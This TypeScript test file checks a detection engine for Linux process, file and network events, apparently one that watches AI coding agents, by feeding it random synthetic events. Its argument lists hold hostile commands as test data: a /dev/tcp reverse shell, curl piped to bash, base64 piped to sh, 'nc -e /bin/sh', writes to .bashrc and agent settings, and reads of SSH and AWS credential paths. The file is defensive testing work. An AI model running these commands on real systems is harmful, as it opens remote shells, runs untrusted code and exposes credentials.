import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DetectionEngine, type EngineMatch } from '../../src/agent/detection-engine.js';
import { DocumentDemand } from '../../src/agent/document-demand.js';
import { eventTime } from '../../src/agent/agent.js';
import type { HostIdentity } from '../../src/collectors/host-identity.js';
import type { RawEvent, RawProcess } from '../../src/collectors/raw-event.js';
import type { EcsEvent } from '../../src/ecs/ecs-event.js';
import { Normalizer, type DocumentProbe } from '../../src/normalize/normalizer.js';
import { compileFieldGetter } from '../../src/ecs/field-getter.js';
import { GATE_FIELDS } from '../../src/eql/stage-gate.js';
import { RuleSet } from '../../src/rules/rule-set.js';
import { seededRandom } from '../helpers/seeded-random.js';
import { bundledRulesDir } from '../rules/project-paths.js';
import { rulesFrom } from '../helpers/rules-from.js';

type Rand = () => number;
const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;

const HOST: HostIdentity = {
  platform: 'linux', hostId: 'probe-test-host', bootId: 'boot', bootTimeMs: 1_759_000_000_000, clockTicksPerSecond: 100,
  hostname: 'probe', architecture: 'x86_64', os: { type: 'linux', family: 'debian', name: 'Debian', version: '12', kernel: '6.1.0' },
};

/** Programs and arguments the bundled rules look for, among plain ones. */
const NAMES = ['bash', 'sh', 'node', 'python3', 'curl', 'wget', 'claude', 'codex', 'gemini', 'base64', 'tar', 'crontab', 'systemctl', 'nc', 'socat', 'gcc', 'exec-nop', 'tee', 'cp', 'ls'];
const ARGS = [
  '--yolo', '--dangerously-skip-permissions', '--full-auto', '-c', 'curl http://a.example/x.sh | bash', '/root/.ssh/id_rsa', '-e', '/bin/sh',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec:/bin/sh', 'tcp:1.2.3.4:80', 'enable', 'x.service', '-', '/tmp/cron',
  '/x/@anthropic-ai/claude-code/cli.js', '-s', 'echo aGk= | base64 -d | sh', 'echo x > /root/.bashrc', '/root/.claude/settings.json', 'sed -i s/a/b/ /root/.codex/config.toml', 'plain',
];
const DIRS = ['/usr/bin/', '/tmp/', '/home/u/.local/share/claude/versions/'];
const FILE_PATHS = [
  '/home/u/.ssh/id_rsa', '/home/u/.aws/credentials', '/home/u/.bashrc', '/home/u/.claude/settings.json', '/home/u/.codex/config.toml',
  '/etc/cron.d/job', '/home/u/.config/systemd/user/x.service', '/tmp/a.txt', '/home/u/notes.md',
];

interface Proc { readonly pid: number; readonly startKey: string; readonly ppid: number; readonly parentStartKey: string; startTimeMs: number; comm: string; image?: Partial<RawProcess> }

/** A random process tree on Linux: forks, execs of the programs above, exits, connects out. */
function stream(r: Rand, n: number): RawEvent[] {
  const base = { backend: 'ebpf', platform: 'linux' } as const;
  let t = 1_760_000_000_000;
  let nextPid = 1000;
  const raw = (p: Proc): RawProcess => ({
    pid: p.pid, startKey: p.startKey, startTimeMs: p.startTimeMs, ppid: p.ppid, parentStartKey: p.parentStartKey, comm: p.comm,
    uid: 1000, gid: 1000, euid: 1000, egid: 1000, groupLeaderPid: p.pid, sessionLeaderPid: 1, ...p.image,
  });
  const live: Proc[] = [{ pid: 900, startKey: '1', ppid: 1, parentStartKey: '0', startTimeMs: t - 1000, comm: 'bash' }];
  const out: RawEvent[] = [];
  while (out.length < n) {
    t += 1 + Math.floor(r() * 5);
    const x = r();
    const p = pick(r, live);
    if (x < 0.35 || live.length < 3) {
      const child: Proc = { pid: nextPid++, startKey: String(t), ppid: p.pid, parentStartKey: p.startKey, startTimeMs: t, comm: p.comm };
      live.push(child);
      out.push({ ...base, kind: 'fork', timeMs: t, process: raw(child) });
    } else if (x < 0.7) {
      const name = pick(r, NAMES);
      const args = [name, ...Array.from({ length: Math.floor(r() * 4) }, () => pick(r, ARGS))];
      p.comm = name.slice(0, 15);
      p.image = { executable: `${pick(r, DIRS)}${name}`, args, cwd: '/home/u' };
      out.push({ ...base, kind: 'exec', timeMs: t, process: raw(p) });
    } else if (x < 0.85) {
      out.push({
        ...base, kind: 'connect', timeMs: t, transport: 'tcp', family: 'ipv4', result: -115,
        source: { ip: '10.0.0.2', port: 40000 }, destination: { ip: pick(r, ['8.8.8.8', '127.0.0.1', '1.2.3.4']), port: 443 }, process: raw(p),
      });
    } else if (x < 0.93) {
      const action = pick(r, ['open', 'creation', 'modification', 'rename', 'deletion'] as const);
      const path = pick(r, FILE_PATHS);
      out.push({
        ...base, kind: 'file', action, timeMs: t, process: raw(p), path, result: 0, threadId: p.pid,
        ...(action === 'rename' ? { originalPath: `${path}.tmp` } : {}),
      });
    } else if (live.length > 3) {
      live.splice(live.indexOf(p), 1);
      out.push({ ...base, kind: 'exit', timeMs: t, exitCode: 0, process: raw(p) });
    }
  }
  return out;
}

/** What a match shows, without the per-normalizer random part of `event.id`. */
function shown(matches: readonly EngineMatch[]): unknown[] {
  const strip = (e: EcsEvent | null): unknown => {
    if (e === null) return null;
    const { id: _id, ...event } = e['event'] as Record<string, unknown>;
    return { ...e, event };
  };
  return matches.map((m) => ({ rule: m.rule.meta.id, joinKeys: m.joinKeys, events: m.events.map(strip) }));
}

function run(ruleSet: RuleSet, events: readonly RawEvent[], probing: boolean): { matches: unknown[]; normalizer: Normalizer } {
  const clock = { now: 0 };
  const normalizer = new Normalizer({ host: HOST, agent: { id: 'probe', version: '0' }, nowMs: () => clock.now });
  const demand = new DocumentDemand(ruleSet, { logsEveryEvent: false, ruleBudgetMs: 0 });
  const engine = new DetectionEngine(ruleSet, { timestamp: eventTime, maxSequencesPerRule: 10_000, defaultLifetimeMs: 300_000 });
  const matches: EngineMatch[] = [];
  for (const raw of events) {
    clock.now = raw.timeMs;
    if (!demand.wants(raw.platform, raw.kind)) {
      normalizer.track(raw);
      continue;
    }
    const doc = normalizer.normalize(raw, probing ? demand.probe(raw) : null);
    if (doc !== null) matches.push(...engine.process(doc));
  }
  matches.push(...engine.flush());
  return { matches: shown(matches), normalizer };
}

test('bundled rules: the same matches, event for event, with process documents probed before they are built', () => {
  const ruleSet = RuleSet.load([bundledRulesDir], { os: 'linux' });
  const events = stream(seededRandom(5122026), 30_000);
  const plain = run(ruleSet, events, false);
  const probed = run(ruleSet, events, true);
  assert.deepEqual(probed.matches, plain.matches);
  const rules = new Set(plain.matches.map((m) => (m as { rule: string }).rule));
  assert.ok(plain.matches.length >= 50, `only ${plain.matches.length} matches: the stream must exercise the rules`);
  assert.ok(rules.size >= 16, `only ${rules.size} rules matched: ${[...rules].join(', ')}`);
  const s = probed.normalizer.stats();
  assert.ok(s.probedOut > 5000, `only ${s.probedOut} documents left unbuilt`);
  assert.equal(s.out + s.probedOut, plain.normalizer.stats().out, 'every document is either built or counted as probed out');
});

test('the gate view holds every gate field with the value the whole document gives it', () => {
  const ruleSet = RuleSet.load([bundledRulesDir], { os: 'linux' });
  const demand = new DocumentDemand(ruleSet, { logsEveryEvent: false });
  const getters = [...GATE_FIELDS].map((f) => [f, compileFieldGetter(f)] as const);
  const read = (e: EcsEvent): Record<string, unknown> => Object.fromEntries(getters.map(([f, g]) => [f, g(e)]));
  let viewed: Record<string, unknown> | null = null;
  let compared = 0;
  let tagged = 0;
  const kinds = new Set<string>();
  const spy: DocumentProbe = {
    gateOpen: (view) => {
      viewed = read(view);
      return true;
    },
    accepts: () => true,
  };
  const normalizer = new Normalizer({ host: HOST, agent: { id: 'probe', version: '0' }, nowMs: () => 0 });
  for (const raw of stream(seededRandom(77), 20_000)) {
    if (!demand.wants(raw.platform, raw.kind)) continue;
    viewed = null;
    const doc = normalizer.normalize(raw, spy);
    if (doc === null || viewed === null) continue;
    assert.deepEqual(read(doc), viewed, `${raw.kind}: the view and the document disagree`);
    compared++;
    kinds.add(raw.kind);
    if (read(doc)['process.ai_agent.name'] !== undefined && read(doc)['process.parent.name'] !== undefined) tagged++;
  }
  assert.deepEqual([...kinds].sort(), ['connect', 'exec', 'exit', 'file', 'fork']);
  assert.ok(compared > 10_000, `only ${compared} documents compared`);
  assert.ok(tagged > 100, `only ${tagged} views of AI-agent processes with a parent`);
});

const EXEC = { kind: 'exec', platform: 'linux' } as RawEvent;
const CONNECT = { kind: 'connect', platform: 'linux' } as RawEvent;
const view = (name: string, category = 'process'): EcsEvent =>
  ({ ecs: { version: '8' }, event: { category: [category], type: ['start'], action: 'exec' }, process: { name } }) as unknown as EcsEvent;

test('what a probe may decide: gates where every stage has one, the partial document where every stage reads only what it holds', () => {
  const probe = (queries: string[], raw = EXEC, logsEveryEvent = false): DocumentProbe | null =>
    new DocumentDemand(rulesFrom(queries), { logsEveryEvent }).probe(raw);
  const both = probe(['process where process.name == "nc" and user.name == "root" and event.action == "exec"'])!;
  assert.equal(both.gateOpen(view('ls')), false);
  assert.equal(both.accepts({ ...view('nc'), user: { name: 'bob' } } as EcsEvent), false, 'decided on the partial document');
  assert.equal(probe(['process where process.name == "nc"'], EXEC, true), null, 'an events log wants every document');
  // host.* is not in the partial document: only the gate decides
  const gateOnly = probe(['process where process.name == "nc" and host.name == "h"'])!;
  assert.equal(gateOnly.gateOpen(view('ls')), false);
  assert.equal(gateOnly.accepts(view('nc')), true, 'the engine decides on the whole document');
  assert.equal(probe(['process where process.name == "nc" and @timestamp > 0'])!.accepts(view('nc')), true);
  assert.equal(probe(['process where event.id != null']), null, 'no gate, and event.id differs per event');
  assert.equal(probe(['process where process.name == "nc"', 'any where agent.id == "x"']), null, 'one stage without a gate or partial verdict is enough');
  assert.equal(probe(['network where destination.port == 4'], CONNECT), null, 'no gate on a network stage');
  const net = probe(['network where process.name == "nc" and destination.port == 4'], CONNECT)!;
  assert.equal(net.gateOpen(view('ls', 'network')), false, 'network and file events are gated too');
  assert.equal(net.gateOpen(view('nc', 'network')), true);
  // file events are one kind with a shape per action: an action no stage can see builds nothing
  const deletion = { kind: 'file', platform: 'linux', action: 'deletion' } as RawEvent;
  const creation = { kind: 'file', platform: 'linux', action: 'creation' } as RawEvent;
  const fileRules = ['file where event.action == "creation" and file.path == "/x"'];
  assert.equal(probe(fileRules, deletion)!.gateOpen(view('nc', 'file')), false);
  assert.equal(probe(fileRules, creation), null, 'no gate on the creation stage: always built');
});

test('a probe skips rules the engine disabled, and lets a document through when its filters outrun the budget', () => {
  const ruleSet = rulesFrom(['process where process.name : "nc*" and process.command_line : "*-e*"']);
  const doc = (name: string, commandLine = 'nc -e /bin/sh'): EcsEvent =>
    ({ ecs: { version: '8' }, event: { category: ['process'], type: ['start'], action: 'exec' }, process: { name, command_line: commandLine } }) as unknown as EcsEvent;
  let disabled = false;
  const d = new DocumentDemand(ruleSet, { logsEveryEvent: false, disabled: () => disabled });
  const p = d.probe(EXEC)!;
  const probe = (e: EcsEvent): boolean => p.gateOpen(e) && p.accepts(e);
  assert.equal(probe(doc('nc')), true);
  assert.equal(probe(doc('ls')), false);
  assert.equal(p.gateOpen(doc('ls')), false, 'the gates alone reject it');
  assert.equal(probe(doc('nc', 'nc -l')), false);
  disabled = true;
  assert.equal(probe(doc('nc')), false, 'a disabled rule takes nothing');
  // a hostile name that makes the case-folding wildcard slow (tens of ms), over a budget of 1 ms: the document
  // goes to the engine, which then times the rule itself (a rejection by the gates alone must not hide the cost)
  const slow = new DocumentDemand(ruleSet, { logsEveryEvent: false, ruleBudgetMs: 1 }).probe(EXEC)!;
  assert.equal(slow.gateOpen(doc(`X${'N'.repeat(30_000_000)}`)), true);
  assert.equal(slow.gateOpen(doc('ls')), false, 'a quick rejection stays a rejection');
});
